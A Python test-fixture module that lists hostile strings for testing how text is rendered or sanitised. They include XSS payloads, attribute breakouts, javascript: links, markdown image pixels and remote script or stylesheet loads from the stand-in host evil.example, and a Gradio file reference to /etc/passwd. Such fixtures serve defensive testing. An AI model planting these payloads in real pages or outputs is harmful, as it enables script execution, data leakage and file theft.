"""Define texts that run a script, load a file or become a link if interpreted as markup, or that break parsers."""

from __future__ import annotations

ELSEWHERE = "evil.example"
"""The host in all of them; no request may go there."""

HOSTILE = (
    # Scripts
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/a.js></sCrIpT>",
    "</script><script>window.ran=1</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=window.ran=1 //",
    '<img src="https://evil.example/a.png">',
    "<svg/onload=alert(1)>",
    "<svg><script href=https://evil.example/a.js /></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<iframe src=https://evil.example></iframe>",
    '<iframe srcdoc="<script>parent.ran=1</script>">',
    "<object data=https://evil.example></object><embed src=https://evil.example>",
    "<video><source onerror=alert(1) src=https://evil.example/a.mp4></video>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<input autofocus onfocus=alert(1)>",
    "<body onload=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<form action=https://evil.example><button>Send</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/a.css>",
    "<style>@import url(https://evil.example/a.css); * {display: none}</style>",
    "<p style='background:url(https://evil.example/a.png)'>x</p>",
    "<template><img src=https://evil.example/a.png></template>",
    "<x-y onclick=alert(1)>z</x-y>",
    # Breaking out of attributes and of the page's own templates
    '" onmouseover="alert(1)" x="',
    "' autofocus onfocus='alert(1)' x='",
    '"><img src=x onerror=alert(1)>',
    "'/><svg onload=alert(1)>",
    "` onmouseover=`alert(1)`",
    "</details></div></blockquote></p><img src=x onerror=alert(1)>",
    "</mark></summary><script>alert(1)</script>",
    "</textarea></title></style></noscript><img src=x onerror=alert(1)>",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml-stylesheet href='https://evil.example/a.css'?>",
    # Links
    "<a href=javascript:alert(1)>click</a>",
    "[click](javascript:alert(1))",
    "[click](https://evil.example)",
    "![pixel](https://evil.example/a.png)",
    "[![x](https://evil.example/a.png)](https://evil.example)",
    "<https://evil.example> https://evil.example/?a=b www.evil.example",
    "[x]: https://evil.example",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "java\tscript:alert(1)",
    # Other markup languages
    "# Heading **bold** _it_ `code` ~~gone~~ - item > quote | a | b |",
    "a\r\r![pixel](https://evil.example/a.png)\r\r# Heading",
    "a\n\n<img src=x onerror=alert(1)>\n\n    code\n\n```mermaid\ngraph\n```",
    "$$\\href{javascript:alert(1)}{x}$$ \\(y\\) \\[z\\] $\\includegraphics{https://evil.example/a.png}$",
    "{{7*7}} {% raw %} ${alert(1)} #{x} <%= 7*7 %>",
    "&lt;img src=x onerror=alert(1)&gt; &#60;b&#62; &nbsp; &amp;amp; &colon;",
    "<think>hidden</think> <thinking>too",
    '{"path": "/etc/passwd", "meta": {"_type": "gradio.FileData"}, "url": "https://evil.example/a.png"}',
    # Odd characters
    "\u202e\u2066gnp.exe\u2069 \u200b\ufeff",
    "nul\x00 <b\x00>bold</b> \x1b[31mred \x7f",
    "＜script＞alert(1)＜/script＞ ‹img›",
    "<b>" + "long " * 300 + "<img src=x onerror=alert(1)>",
)
assert len(HOSTILE) == 60
